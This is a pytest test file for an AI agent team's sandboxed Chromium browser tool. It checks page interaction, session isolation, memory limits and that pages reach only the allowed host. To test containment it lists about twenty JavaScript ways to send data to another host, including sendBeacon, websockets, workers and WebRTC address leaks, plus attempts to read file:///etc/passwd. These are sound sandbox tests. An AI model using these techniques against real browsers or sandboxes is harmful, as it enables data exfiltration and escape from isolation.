"""The team's browser: what it does, and that its pages reach the allowed host and nothing else.

One browser for the module. Each way out is tried at the allowed host as well, where it has to work: an attempt that fails there
would show nothing.
"""

from __future__ import annotations

import asyncio
import importlib.util
import json
import os
import re
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from heredity._core.errors import ConfigError, IsolationError, MissingExtraError
from heredity.engine.programs import SandboxedPrograms
from heredity.records import BlobStore, read_journal
from heredity.sandbox import browser_bubblewrap
from heredity.sandbox.hosts import AllowedHosts
from heredity.team.agent import Traced
from heredity.team.assembly import work
from heredity.team.bus import Bus
from heredity.team.participant import Context, Message, Participant
from heredity.team.record import EFFECT_DONE
from heredity.team.settings import load_team
from heredity.team.tools.documents import DocumentReader
from heredity.team.tools.web import browser as browsers
from heredity.team.tools.web import door as pages
from heredity.team.tools.web import door as showing
from heredity.team.tools.web.browser import WebBrowser, check, open_browser
from heredity.team.tools.web.door import PIECE, Session, browser_tools, open_session


def missing() -> str:
    try:
        check()
    except (MissingExtraError, ConfigError, IsolationError) as error:
        return str(error)
    return ""


pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(bool(missing()), reason=missing() or "there is a browser"),
    pytest.mark.asyncio(loop_scope="module"),
]

HOME = """<title>The office</title><h1>Office</h1><a href="/list">list</a> <a href="/new" target="_blank">new window</a>
<button onclick="fetch('/facts').then(r => r.text()).then(t => document.body.append(t))">load facts</button>
<form action="/search"><input name="q" aria-label="query"><select name="kind" aria-label="kind">
<option value="1">Bridges</option><option value="2">Towers</option></select></form>
<a href="/table.csv">table</a><button onclick="alert('is full')">warn</button><a href="/gone">gone</a>
<button onclick="window.close()">close</button>"""


@dataclass
class Site:
    """A server whose pages a test sets, and that keeps what it was asked."""

    pages: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    address: str = ""

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
        except (EOFError, OSError):
            return writer.close()
        path = head.split()[1]
        self.asked.append(path + (" websocket" if "websocket" in head.lower() else ""))
        name = path.partition("?")[0]
        status, more = "200 OK", ""
        if name.startswith("/to/"):
            status, more = "302 Found", f"Location: {path.removeprefix('/to/')}\r\n"
        kind = {"csv": "text/csv", "js": "text/javascript", "bin": "application/octet-stream"}.get(
            name.rpartition(".")[2], "text/html"
        )
        body = self.pages.get(name, f"<title>{name}</title>you asked {path}").encode()
        writer.write(
            f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{more}"
            "Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n".encode()
            + body
        )
        await writer.drain()
        return writer.close()


@dataclass
class World:
    browser: WebBrowser
    good: Site
    other: Site
    datagrams: list[bytes]
    datagram_port: int
    programs: SandboxedPrograms


class Listener(asyncio.DatagramProtocol):
    def __init__(self, heard: list[bytes]) -> None:
        self._heard = heard

    def datagram_received(self, data: bytes, addr: Any) -> None:
        self._heard.append(data)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def world() -> AsyncIterator[World]:
    good, other, heard = Site({"/": HOME}), Site(), list[bytes]()
    async with AsyncExitStack() as stack:
        for site in (good, other):
            server = await asyncio.start_server(site.handle, "127.0.0.1", 0)
            stack.callback(server.close)
            site.address = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
            lambda: Listener(heard), local_addr=("127.0.0.1", 0)
        )
        stack.callback(transport.close)
        programs = await stack.enter_async_context(SandboxedPrograms(1))
        browser = await stack.enter_async_context(open_browser(AllowedHosts([good.address])))
        yield World(browser, good, other, heard, transport.get_extra_info("sockname")[1], programs)


@pytest_asyncio.fixture(loop_scope="module")
async def session(world: World) -> AsyncIterator[Session]:
    world.good.asked.clear()
    world.other.asked.clear()
    kept: list[bytes] = []

    async def keep(data: bytes) -> str:
        kept.append(data)
        return f"picture-{len(kept)}"

    async with open_session(world.browser, DocumentReader(world.programs), keep) as opened:
        yield opened


def ref(text: str, what: str) -> str:
    found = re.search(rf"{re.escape(what)}.*?\[ref=(\w+)\]", text)
    assert found, text
    return found[1]


async def test_a_page_is_read_clicked_filled_in_and_left(world: World, session: Session) -> None:
    assert await session.click("e1") == "error: no page is open; open one first"
    home = await session.open(f"http://{world.good.address}/")
    assert home.startswith(f"page: The office\naddress: http://{world.good.address}/\n")
    assert home.trace == {"url": f"http://{world.good.address}/", "title": "The office", "picture": "picture-1"}
    world.good.pages["/facts"] = "the bridge is from 1883"
    # What a script fetches is part of the page that comes back.
    assert "the bridge is from 1883" in await session.click(ref(home, 'button "load facts"'))
    assert 'option "Towers" [selected]' in await session.select('combobox "kind"', "Towers")
    found = await session.type(ref(home, 'textbox "query"'), "how & why", enter=True)
    assert "you asked /search?q=how+%26+why&kind=2" in found
    assert (await session.back()).trace["title"] == "The office"
    # After a return refs are as they were; a window that opens is what is looked at from then on.
    listed = await session.read()
    assert "address: " in await session.click(ref(listed, 'link "new window"'))
    assert (await session.read()).trace["title"] == "/new"


async def test_a_model_that_sees_may_look_at_a_page(world: World, session: Session) -> None:
    assert "browser_look" not in {tool.tool.spec.name for tool in browser_tools(session)}
    look = {tool.tool.spec.name: tool for tool in browser_tools(session, sees=True)}["browser_look"]
    await session.open(world.good.address)
    looked = await look.tool.run({})
    assert isinstance(looked, Traced)
    assert looked.endswith(f"address: http://{world.good.address}/\nits picture follows")
    assert looked.trace["shown"] == "image/jpeg"
    [(kind, picture)] = looked.pictures
    assert (kind, picture[:3]) == ("image/jpeg", b"\xff\xd8\xff")


async def test_what_cannot_be_done_is_told_with_the_page(world: World, session: Session) -> None:
    await session.open(world.good.address)
    for element, says in [
        ("e999", "error: there is no e999 on the page now"),
        ("body >> css=*", "error: 'body >> css=*' is no element"),
        ('link "none"', 'error: there is no link "none" on the page now'),
    ]:
        told = await session.click(element)
        assert told.startswith(says)
        assert "page: The office" in told
    assert "the page said (alert): is full" in await session.click('button "warn"')
    for address in (
        "file:///etc/passwd",
        "chrome://version",
        "view-source:http://x/",
        "javascript:1//",
        "data:text/html,//x",
    ):
        assert "cannot be opened; only http:// and https:// can" in await session.open(address)
    refused = await session.open(f"http://{world.other.address}/")
    assert f"{world.other.address} is not allowed; allowed hosts: {world.good.address}" in refused
    assert "page: The office" in refused
    assert world.other.asked == []


async def test_a_long_page_is_read_in_pieces(world: World, session: Session) -> None:
    world.good.pages["/long"] = "".join(f"<p>paragraph {n}</p>" for n in range(600))
    first = await session.open(f"{world.good.address}/long")
    assert "paragraph 5\n" in first
    assert "paragraph 599" not in first
    start = int(first.rpartition("start=")[2].rstrip("]"))
    assert start == PIECE
    last = await session.read(start=18_000)
    assert "paragraph 599" in last


async def test_a_file_is_taken_and_read_as_text(
    world: World, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.good.pages["/table.csv"] = "year,height\n1883,41\n"
    await session.open(world.good.address)
    told = await session.download('link "table"')
    assert "the file 'table.csv' was downloaded (20 bytes, kept as picture-" in told
    assert await session.read(file="table.csv") == "year,height\n1883,41\n"
    assert (await session.read(file="none.csv")).startswith("error: there is no file 'none.csv'; there is: table.csv")
    with monkeypatch.context() as patch:
        patch.setattr(showing, "MOST_FILE_BYTES", 10)
        assert "could not be taken: it is larger than" in await session.download('link "table"')
    world.good.pages["/"] = HOME.replace("table.csv", "program.bin")
    await session.open(world.good.address)
    assert "documents that end in .bin cannot be read" in await session.download('link "table"')
    world.good.pages["/"] = HOME
    assert list(world.browser.downloads.iterdir()) == []


async def test_sessions_share_nothing(world: World, session: Session) -> None:
    world.good.pages["/set"] = "<script>document.cookie='a=1'; localStorage.b='2'</script>set"
    world.good.pages["/get"] = "<script>document.write(document.cookie + '|' + localStorage.b)</script>"
    await session.open(f"{world.good.address}/set")
    assert "a=1|2" in await session.open(f"{world.good.address}/get")
    async with open_session(world.browser, DocumentReader(world.programs)) as second:
        assert "|undefined" in await second.open(f"{world.good.address}/get")


WAYS = {
    "fetch": "fetch('http://HOST/x', {mode: 'no-cors'})",
    "XMLHttpRequest": "r = new XMLHttpRequest(); r.open('GET', 'http://HOST/x'); r.send()",
    "picture": "new Image().src = 'http://HOST/x'",
    "script": "s = document.createElement('script'); s.src = 'http://HOST/x.js'; document.head.append(s)",
    "iframe": "f = document.createElement('iframe'); f.src = 'http://HOST/x'; document.body.append(f)",
    "beacon": "navigator.sendBeacon('http://HOST/x', 'secret')",
    "web socket": "new WebSocket('ws://HOST/x')",
    "events": "new EventSource('http://HOST/x')",
    "form": "document.body.innerHTML = '<form action=http://HOST/x></form>'; document.forms[0].submit()",
    "navigation": "location = 'http://HOST/x'",
    "redirect": "location = '/to/http://HOST/x'",
    "redirected fetch": "fetch('/to/http://HOST/x', {mode: 'no-cors'})",
    "refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0; url=http://HOST/x\">'",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/x', {mode: 'no-cors'})\"])))",
    "preload": "document.head.innerHTML += '<link rel=preload as=image href=http://HOST/x>'",
    "style": "document.body.style.backgroundImage = 'url(http://HOST/x)'",
    "download": "a = document.createElement('a'); a.href = '/to/http://HOST/x.bin'; a.download = ''; a.click()",
    "window": "open('http://HOST/x')",
    "ping": "a = document.createElement('a'); a.href = '#'; a.ping = 'http://HOST/x'; document.body.append(a); a.click()",
}


@pytest.mark.parametrize("way", WAYS)
async def test_a_page_reaches_no_other_host(world: World, session: Session, way: str) -> None:
    for number, site in enumerate((world.good, world.other)):
        script = f"function go() {{ {WAYS[way].replace('HOST', site.address)} }}"
        world.good.pages[f"/try{number}"] = f'<body><button onclick="go()">go</button><script>{script}</script>'
        await session.open(f"{world.good.address}/try{number}")
        await session.click('button "go"')
    await asyncio.sleep(0.2)
    assert [path for path in world.good.asked if path.startswith("/x")], (
        f"the attempt itself does not work: {world.good.asked}"
    )
    assert world.other.asked == []


async def test_a_page_reaches_other_hosts_by_no_other_protocol(world: World, session: Session) -> None:
    server, port = f"stun:127.0.0.1:{world.datagram_port}", world.other.address.rpartition(":")[2]
    world.good.pages["/rtc"] = f"""<body><script>
      const peer = new RTCPeerConnection({{iceServers: [{{urls: ['{server}', 'turn:127.0.0.1:{port}?transport=tcp'],
        username: 'a', credential: 'b'}}]}});
      const seen = []; peer.onicecandidate = e => seen.push(e.candidate ? e.candidate.candidate : 'end');
      peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o));
      try {{ new WebTransport('https://127.0.0.1:{world.datagram_port}/x').ready.catch(() => 0) }} catch (e) {{}}
      document.head.innerHTML += '<link rel=dns-prefetch href=//leak.example><link rel=preconnect href=http://{world.other.address}>';
      setTimeout(() => document.body.append('candidates: ' + seen.join(' ')), 1500);
    </script>"""
    await session.open(f"{world.good.address}/rtc")
    await asyncio.sleep(2)
    told = await session.read()
    assert "candidates:" in told
    assert not re.search(r"\d+\.\d+\.\d+\.\d+ \d+ typ", told), "an address of this machine was given away"
    assert world.datagrams == []
    assert world.other.asked == []


async def test_a_page_opens_no_file_and_no_page_of_the_browser(world: World, session: Session) -> None:
    tries = ["file:///etc/passwd", f"view-source:http://{world.good.address}"]
    for number, address in enumerate(tries):
        world.good.pages["/local"] = (
            f"<a id=a href='{address}'>go</a><iframe src='{address}'></iframe>"
            f"<script>fetch('{address}').then(r => r.text()).then(t => document.body.append('GOT ' + t))</script>"
        )
        await session.open(f"{world.good.address}/local?{number}")
        told = await session.click('link "go"')
        assert f"address: http://{world.good.address}/local?{number}" in told
        assert not re.search(r"root:|GOT|Revision|Office", told), told


async def test_even_the_browser_itself_sees_no_file_and_no_address(world: World, session: Session) -> None:
    """What a page could do that had taken over the browser, tried with the driver's own rights."""
    from playwright.async_api import Error

    await session.open(world.good.address)
    page = session._page
    assert page is not None
    child = browsers._child(int((world.browser._pid).read_text()))
    process = Path(f"/proc/{child}")
    devices = re.findall(r"^\s*(\w+):", await asyncio.to_thread((process / "net/dev").read_text), re.MULTILINE)
    assert devices == ["lo"]
    root = process / "root"
    assert not (root / "etc/passwd").exists()
    assert not (root / __file__.removeprefix("/")).exists()
    environment = await asyncio.to_thread((process / "environ").read_bytes)
    assert b"KEY" not in environment
    assert b"PATH=/usr/bin:/bin" in environment
    # Chromium itself may end when its driver asks for a page of its own.
    for address in (
        "file:///etc/passwd",
        "file:///",
        "view-source:http://x/",
        f"http://{world.other.address}/",
        "chrome://version",
    ):
        try:
            await page.goto(address, timeout=3000)
        except Error:
            continue
        text = await page.inner_text("body")
        assert "not allowed" in text, (address, text[:200])
    assert world.other.asked == []


async def test_a_service_worker_is_not_registered(world: World, session: Session) -> None:
    world.good.pages["/worker.js"] = "self.onfetch = e => e.respondWith(new Response('forged'))"
    world.good.pages["/service"] = """<script>navigator.serviceWorker.register('/worker.js').then(
      r => document.body.append('registered ' + (r && r.active)), e => document.body.append('not registered'))</script>"""
    await session.open(f"{world.good.address}/service")
    await asyncio.sleep(0.3)
    assert "/worker.js" not in world.good.asked
    assert "forged" not in await session.open(f"{world.good.address}/service")


async def test_many_windows_and_a_page_that_closes_itself_stop_nothing(world: World, session: Session) -> None:
    world.good.pages["/many"] = "<button onclick=\"for (let i = 0; i < 30; i++) open('/new' + i)\">go</button>"
    await session.open(f"{world.good.address}/many")
    await session.click('button "go"')
    assert session._context is not None
    assert len(session._context.pages) <= pages.MOST_PAGES
    assert "page: The office" in await session.open(world.good.address)


async def test_steps_that_wait_for_others_give_way_and_go_on_at_their_address(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browsers, "MOST_CONTEXTS", 1)
    world.good.pages |= {
        "/in": "<script>document.cookie = 'who=me'; localStorage.been = 'here'</script>",
        "/who": "<input aria-label=n><p id=p></p><script>p.innerText = document.cookie + localStorage.been</script>",
    }
    async with Bus() as bus, open_browser(AllowedHosts([world.good.address])) as browser:

        async def first(_: Message, context: Context) -> list[str]:
            async with open_session(browser, DocumentReader(world.programs)) as session:
                await session.open(f"{world.good.address}/in")
                await session.open(f"{world.good.address}/who")
                asked = await context.request("second", {})
                return [str(asked.value), await session.type('textbox "n"', "x", enter=False)]

        async def second(_: Message, __: Context) -> str:
            async with open_session(browser, DocumentReader(world.programs)) as session:
                return await session.open(f"{world.good.address}/who")

        bus.register(Participant("first", first))
        bus.register(Participant("second", second))
        answer = await bus.outside.request("first", {})
    assert answer.ok, answer.error
    theirs, ours = answer.value
    assert "who=me" not in theirs
    assert "undefined" in theirs
    assert "what had been filled in is lost" in ours
    assert "who=mehere" in ours
    assert 'textbox "n"' in ours
    assert ": x" in ours


async def test_a_killed_browser_is_started_anew(world: World, session: Session) -> None:
    await session.open(world.good.address)
    os.kill(int(world.browser._pid.read_text()), 9)
    assert re.match("error: (the browser has ended; open the page again|no page is open)", await session.read())
    assert "page: The office" in await session.open(world.good.address)


async def test_a_session_goes_on_where_an_earlier_process_was(world: World, session: Session) -> None:
    listed = await session.open(f"{world.good.address}/")
    element = ref(listed, 'link "list"')
    async with open_session(world.browser, DocumentReader(world.programs)) as second:
        second.recalled(listed.trace)
        assert "you asked /list" in await second.click(element)


async def test_a_browser_that_holds_too_much_is_ended_and_says_so(world: World) -> None:
    async with (
        open_browser(AllowedHosts([world.good.address]), memory_bytes=900 << 20) as small,
        open_session(small, DocumentReader(world.programs)) as session,
    ):
        world.good.pages["/greedy"] = "<script>kept = new Uint8Array(1000 << 20).fill(1)</script>"
        told = await session.open(f"{world.good.address}/greedy")
        for _ in range(100):
            if told.startswith("error"):
                break
            await asyncio.sleep(0.1)
            told = await session.read()
        assert told.startswith("error: the browser held more than 900 MiB of memory and was ended; open the page again")


def test_what_is_missing_is_said_with_the_command_that_installs_it(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ConfigError, match=r"web\.browser: '/none' is not a program"):
        check("/none")
    monkeypatch.setattr(browser_bubblewrap, "NAMES", ("no-such-browser",))
    with pytest.raises(ConfigError, match=r"no browser is installed .* apt-get install chromium"):
        check()
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
    with pytest.raises(MissingExtraError, match=r"pip install 'heredity\[browser\]'"):
        check()


PLANNER = r"""
[[rule]]
when = { user = 's1 \(surfer\), done.*\n  gave: (?P<year>\d+)' }
reply = '{"finished": true, "result": "${year}"}'

[[rule]]
when = { any = "Steps so far, after 0 rounds" }
reply = '{"steps": [{"id": "s1", "agent": "surfer", "task": "In which year was the bridge built?"}]}'
"""

SURFER = r"""
[[rule]]
when = { last = 'built in (?P<year>\d+)' }
reply = "${year}"

[[rule]]
when = { last = 'button "details" \[ref=(?P<ref>\w+)\]' }
[rule.reply]
calls = [{ name = "browser_click", arguments = { element = "${ref}" } }]

[[rule]]
when = { last = 'link "The bridge" \[ref=(?P<ref>\w+)\]' }
[rule.reply]
calls = [{ name = "browser_click", arguments = { element = "${ref}" } }]

[[rule]]
when = { last = 'searchbox' }
[rule.reply]
calls = [{ name = "browser_type", arguments = { element = 'searchbox "search"', text = "bridge", enter = true } }]

[[rule]]
when = { results = 0 }
[rule.reply]
calls = [{ name = "browser_open", arguments = { address = "http://ADDRESS/museum" } }]
"""


async def test_a_team_clicks_its_way_to_an_answer(world: World, tmp_path: Path) -> None:
    world.good.pages |= {
        "/museum": "<title>Museum</title><form action=/found><input type=search name=q aria-label=search></form>",
        "/found": """<div id=hits></div><script>fetch('/hits.json' + location.search).then(r => r.json()).then(hits => {
            document.getElementById('hits').innerHTML = hits.map(h => `<a href="${h.at}">${h.title}</a>`).join() })</script>""",
        "/hits.json": json.dumps([{"at": "/bridge", "title": "The bridge"}]),
        "/bridge": "<h1>The bridge</h1><button onclick=\"this.outerHTML = '<p>built in ' + (1900 - 17)\">details</button>",
    }
    (tmp_path / "planner.toml").write_text(PLANNER)
    (tmp_path / "surfer.toml").write_text(SURFER.replace("ADDRESS", world.good.address))
    (tmp_path / "team.toml").write_text(f"""
[planner]
model = "scripted/{tmp_path}/planner.toml"
[web]
allow = ["{world.good.address}"]
[agents.surfer]
description = "looks at pages"
model = "scripted/{tmp_path}/surfer.toml"
tools = ["browse"]
""")
    result = await work(load_team(tmp_path / "team.toml"), tmp_path / "run", "When was it built?")
    assert (result.answer, result.error) == ("1883", "")
    effects = [EFFECT_DONE.of(event) for event in read_journal(tmp_path / "run" / "journal.jsonl")]
    steps = [effect["value"] for effect in effects if effect and "#browser_" in effect["id"]]
    paths = [step["url"].removeprefix(f"http://{world.good.address}") for step in steps]
    assert paths == ["/museum", "/found?q=bridge", "/bridge", "/bridge"]
    # Of each step there is a picture.
    blobs = BlobStore(tmp_path / "run" / "blobs")
    assert all(blobs.get(step["picture"]).startswith(b"\xff\xd8\xff") for step in steps)
